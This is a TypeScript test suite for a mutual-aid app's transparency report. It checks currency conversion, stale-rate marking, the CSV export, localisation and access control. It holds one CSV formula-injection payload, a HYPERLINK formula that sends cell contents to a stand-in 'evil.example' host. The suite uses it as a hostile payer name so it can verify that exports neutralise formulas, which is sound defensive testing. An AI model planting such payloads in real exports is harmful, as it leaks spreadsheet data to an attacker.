import { describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { ENGINES } from '../../../test/helpers/db.ts';
import { useTestApp } from '../../../test/helpers/app.ts';
import { mainOf, pactWorld } from '../../../test/helpers/pacts.ts';
import { readSafeCsv } from '../../lib/csv-safe.ts';
import { todayIn } from '../../lib/time.ts';
import { newId } from '../../lib/ids.ts';
import { recordEntries } from './ledger.service.ts';

/**
 * The transparency report through the page, the CSV and the API on every engine, with real
 * figures: two months in EUR, USD and CDF; USD converted at a stored ECB rate (fresh in January,
 * stale in February), CDF listed as not converted; households supported; another target currency
 * with `?currency=`; the CSV formula-safe (case B19); German.
 *
 * Figures: January EUR +1,000.00, fee −5.00; USD +500.00 (a payer named `=HYPERLINK(…)`).
 * February EUR −300.00 to a household; CDF +1,500.00. ECB: 1 EUR = 1.0800 USD on 2026-01-30 only.
 * USD→EUR = 1/1.08 = 0.92592592592592592593 (20 significant digits); 500.00 USD → 462.96 EUR.
 */

const EVIL = '=HYPERLINK("https://evil.example/?"&A1,"Click")';

for (const engine of ENGINES) {
  describe(`transparency report (${engine})`, () => {
    const t = useTestApp(engine);
    const db = () => t.db.db;
    const get = (url: string, cookie?: string) => t.app.inject({ method: 'GET', url, headers: cookie ? { cookie } : {} });

    const world = async () => {
      const w = await pactWorld(t);
      const pactId = w.pact.id;
      const household = newId();
      await db()
        .insertInto('beneficiaries')
        .values({ id: household, pact_id: pactId, code: 'H-0001', kind: 'household', household_size: 5, sealed_personal: 'sealed', archived_at: null, created_by: null, created_at: '2026-01-01T00:00:00.000Z', updated_at: '2026-01-01T00:00:00.000Z' })
        .execute();
      const rec = (entries: Parameters<typeof recordEntries>[1]['entries']) => recordEntries(db(), { pactId, recordedBy: null, entries });
      await rec([{ kind: 'contribution', amountMinor: 100_000, currency: 'EUR', valueDate: '2026-01-10', counterparty: { kind: 'organization', organizationId: w.union.id }, reference: 'January collection' }]);
      await rec([{ kind: 'fee', amountMinor: -500, currency: 'EUR', valueDate: '2026-01-12', counterparty: { kind: 'external', name: 'Bank' } }]);
      await rec([{ kind: 'contribution', amountMinor: 50_000, currency: 'USD', valueDate: '2026-01-20', counterparty: { kind: 'external', name: EVIL }, reference: EVIL }]);
      await rec([{ kind: 'disbursement', amountMinor: -30_000, currency: 'EUR', valueDate: '2026-02-05', counterparty: { kind: 'beneficiary', beneficiaryId: household } }]);
      await rec([{ kind: 'contribution', amountMinor: 150_000, currency: 'CDF', valueDate: '2026-02-10', counterparty: { kind: 'external', name: 'Collecte au marché' } }]);
      await db().insertInto('exchange_rates').values({ source: 'ECB', rate_date: '2026-01-30', base: 'EUR', quote: 'USD', rate: '1.0800', imported_at: '2026-01-30T16:00:00.000Z' }).execute();
      return w;
    };

    test('the page: months per currency, the converted total with the rates used, stale and unconverted marked, households supported', async () => {
      const w = await world();
      const res = await get(`/pacts/${w.pact.slug}/report`);
      assert.equal(res.statusCode, 200);
      const page = mainOf(res);
      assert.match(page, /<h1 class="pact-heading">Transparency report: <span lang="en"><bdi>Families of the Kamoto miners<\/bdi><\/span><\/h1>/);
      assert.match(page, /<dt>Households supported<\/dt><dd>1<\/dd>/);
      // January: EUR and USD lines, then the total in EUR and the fresh rate.
      assert.match(page, /<th scope="rowgroup" rowspan="4" class="month"><time datetime="2026-01">Jan 2026<\/time><\/th><th scope="row">EUR<\/th><td class="num">€1,000\.00<\/td><td class="num">€0\.00<\/td><td class="num">-€5\.00<\/td><td class="num">€995\.00<\/td>/);
      assert.match(page, /<th scope="row">USD<\/th><td class="num">\$500\.00<\/td><td class="num">\$0\.00<\/td><td class="num">\$0\.00<\/td><td class="num">\$500\.00<\/td>/);
      assert.match(page, /<tr class="total"><th scope="row">Total in EUR<\/th><td class="num">€1,462\.96<\/td><td class="num">€0\.00<\/td><td class="num">-€5\.00<\/td><td class="num">€1,457\.96<\/td><\/tr>/);
      assert.match(page, /1 USD = <data value="0\.92592592592592592593">0\.925926<\/data> EUR \(ECB, <time datetime="2026-01-30">30 Jan 2026<\/time>\)<\/li>/);
      // February: the USD rate is 29 days old (stale, marked and explained); CDF is not converted.
      assert.match(page, /<tr class="total"><th scope="row">Total in EUR<\/th><td class="num">€0\.00<\/td><td class="num">-€300\.00<\/td><td class="num">€0\.00<\/td><td class="num">€1,157\.96<\/td><\/tr>/);
      assert.match(page, /\(ECB, <time datetime="2026-01-30">30 Jan 2026<\/time>\) <strong class="stale">stale rate<\/strong><\/li>/);
      assert.match(page, /Not converted \(no exchange rate\): CDF/);
      assert.match(page, /<strong class="stale">stale rate<\/strong>: The latest stored rate is more than 7 days older than the day it is used for/);
      assert.match(page, /The European Central Bank publishes no reference rate for CDF/);
      assert.match(page, /<p class="print-hint hint">To print the report, use your browser's print command/);
      assert.match(page, /<a href="\/pacts\/kamoto-families\/report\.csv\?currency=EUR" download>/);
      assert.doesNotMatch(res.body, /H-0001|HYPERLINK/, 'the report names neither beneficiaries nor payers');
      // The print stylesheet leaves out navigation and forms.
      assert.match(readFileSync(new URL('../../web/static/style.css', import.meta.url), 'utf8'), /@media print\{header\.site,footer\.site,\.skip,\.pact-nav,\.print-hint,\.downloads,main form,main form\.filters,main form\.inline\{display:none\}/);

      const usd = mainOf(await get(`/pacts/${w.pact.slug}/report?currency=usd`));
      assert.match(usd, /<tr class="total"><th scope="row">Total in USD<\/th><td class="num">\$1,580\.00<\/td>/);
      assert.match(usd, /1 EUR = <data value="1\.08(00)?">1\.08<\/data> USD/);
      assert.match(usd, /<option value="USD" selected>USD<\/option>/);
      const bad = await get(`/pacts/${w.pact.slug}/report?currency=XYZ`);
      assert.equal(bad.statusCode, 422);
      assert.match(mainOf(bad), /Choose a currency by its ISO 4217 code/);
      assert.match(mainOf(bad), /Total in EUR/);

      const pactPage = mainOf(await get(`/pacts/${w.pact.slug}`));
      assert.match(pactPage, /<a href="\/pacts\/kamoto-families\/report">Transparency report<\/a>/);
      assert.match(pactPage, /1 household or person has received disbursements\./);

      const de = mainOf(await get(`/pacts/${w.pact.slug}/report`, 'locale=de'));
      assert.match(de, /<h1 class="pact-heading">Transparenzbericht: /);
      assert.match(de, /<th scope="row">Summe in EUR<\/th><td class="num">1\.462,96\s€<\/td>/);
      assert.match(de, /1 USD = <data value="0\.92592592592592592593">0,925926<\/data> EUR \(EZB, <time datetime="2026-01-30">30\.01\.2026<\/time>\)/);
      assert.match(de, /veralteter Kurs/);
      assert.match(de, /Nicht umgerechnet \(kein Wechselkurs\): CDF/);
    });

    test('the CSV: the same figures as exact decimals with the rate, source and date used; formula-safe; a sensible file name', async () => {
      const w = await world();
      const res = await get(`/pacts/${w.pact.slug}/report.csv`);
      assert.equal(res.statusCode, 200);
      assert.equal(res.headers['content-type'], 'text/csv; charset=utf-8');
      assert.equal(res.headers['content-disposition'], `attachment; filename=kamoto-families-transparency-report-EUR-${todayIn('UTC')}.csv`);
      const text = res.body;
      assert.ok(text.startsWith('\ufeff"month","currency","in","out","fees","closing","converted_currency","converted_in"'), text.slice(0, 120));
      const lines = text.replace(/^\ufeff/, '').split('\r\n');
      assert.deepEqual(lines.slice(1, 5), [
        '"2026-01","EUR",1000.00,0.00,-5.00,995.00,"EUR",1000.00,0.00,-5.00,995.00,1,"identity",,"false"',
        '"2026-01","USD",500.00,0.00,0.00,500.00,"EUR",462.96,0.00,0.00,462.96,0.92592592592592592593,"ECB","2026-01-30","false"',
        '"2026-02","CDF",1500.00,0.00,0.00,1500.00,,,,,,,,,',
        '"2026-02","EUR",0.00,-300.00,0.00,695.00,"EUR",0.00,-300.00,0.00,695.00,1,"identity",,"false"',
      ]);
      assert.equal(lines[5], '"2026-02","USD",0.00,0.00,0.00,500.00,"EUR",0.00,0.00,0.00,462.96,0.92592592592592592593,"ECB","2026-01-30","true"');
      // B19: the report has no free-text column (payers' names are not in it); every text cell is
      // quoted and goes through the neutralizer, and only number columns may start with "-".
      assert.doesNotMatch(text, /HYPERLINK|evil\.example/);
      const rows = readSafeCsv(text, { columns: true });
      const numeric = new Set(['in', 'out', 'fees', 'closing', 'converted_in', 'converted_out', 'converted_fees', 'converted_closing', 'rate']);
      for (const row of rows) for (const [k, v] of Object.entries(row)) if (!numeric.has(k)) assert.doesNotMatch(v, /^[=+\-@\t\r]/, `${k}: ${v}`);
      assert.equal(rows.length, 5);
      const usd = await get(`/pacts/${w.pact.slug}/report.csv?currency=USD`);
      assert.match(usd.body, /"2026-01","EUR",1000\.00,0\.00,-5\.00,995\.00,"USD",1080\.00,0\.00,-5\.40,1074\.60,1\.0800,"ECB","2026-01-30","false"/);
      assert.equal((await get(`/pacts/${w.pact.slug}/report.csv?currency=nope`)).statusCode, 422);
    });

    test('the API: months with lines, converted totals and rates; 404 for a private pact to outsiders', async () => {
      const w = await world();
      const res = await get(`/api/v1/pacts/${w.pact.slug}/report`);
      assert.equal(res.statusCode, 200);
      const r = res.json();
      assert.equal(r.currency, 'EUR');
      assert.equal(r.householdsSupported, 1);
      assert.deepEqual(r.balances.map((b: { amount: string; currency: string }) => `${b.amount} ${b.currency}`), ['1500.00 CDF', '695.00 EUR', '500.00 USD']);
      assert.deepEqual(r.months.map((m: { month: string }) => m.month), ['2026-01', '2026-02']);
      assert.deepEqual(r.months[0].converted.in, { amountMinor: 146_296, amount: '1462.96', currency: 'EUR' });
      assert.deepEqual(r.months[0].rates, [{ currency: 'USD', rate: '0.92592592592592592593', source: 'ECB', rateDate: '2026-01-30', stale: false }]);
      assert.equal(r.months[1].rates[0].stale, true);
      assert.deepEqual(r.months[1].unconverted, ['CDF']);
      assert.deepEqual(r.months[1].lines[1].out, { amountMinor: -30_000, amount: '-300.00', currency: 'EUR' });
      const feb = await get(`/api/v1/pacts/${w.pact.slug}/report?from=2026-02&currency=USD`);
      assert.deepEqual(feb.json().months.map((m: { month: string; converted: { closing: { amount: string } } }) => [m.month, m.converted.closing.amount]), [['2026-02', '1250.60']]);
      const bad = await get(`/api/v1/pacts/${w.pact.slug}/report?currency=EURO`);
      assert.equal(bad.statusCode, 400);
      await db().updateTable('pacts').set({ visibility: 'private' }).where('id', '=', w.pact.id).execute();
      for (const cookie of [undefined, w.member.cookie, w.outsider.cookie]) {
        assert.equal((await get(`/api/v1/pacts/${w.pact.slug}/report`, cookie)).statusCode, 404);
        assert.equal((await get(`/pacts/${w.pact.slug}/report`, cookie)).statusCode, 404);
        assert.equal((await get(`/pacts/${w.pact.slug}/report.csv`, cookie)).statusCode, 404);
      }
      assert.equal((await get(`/pacts/${w.pact.slug}/report`, w.coordinator.cookie)).statusCode, 200);

      // The OpenAPI document describes the new resources.
      const paths = Object.keys((await get('/api/openapi.json')).json().paths);
      for (const p of ['/api/v1/pacts/{slug}/report', '/api/v1/pacts/{slug}/pledges', '/api/v1/pacts/{slug}/pledges/{id}/cancel', '/api/v1/pacts/{slug}/disbursements', '/api/v1/pacts/{slug}/disbursements/{id}/approve', '/api/v1/pacts/{slug}/disbursements/{id}/decline', '/api/v1/pacts/{slug}/beneficiaries', '/api/v1/pacts/{slug}/beneficiaries/{code}']) {
        assert.ok(paths.includes(p), p);
      }
    });
  });
}
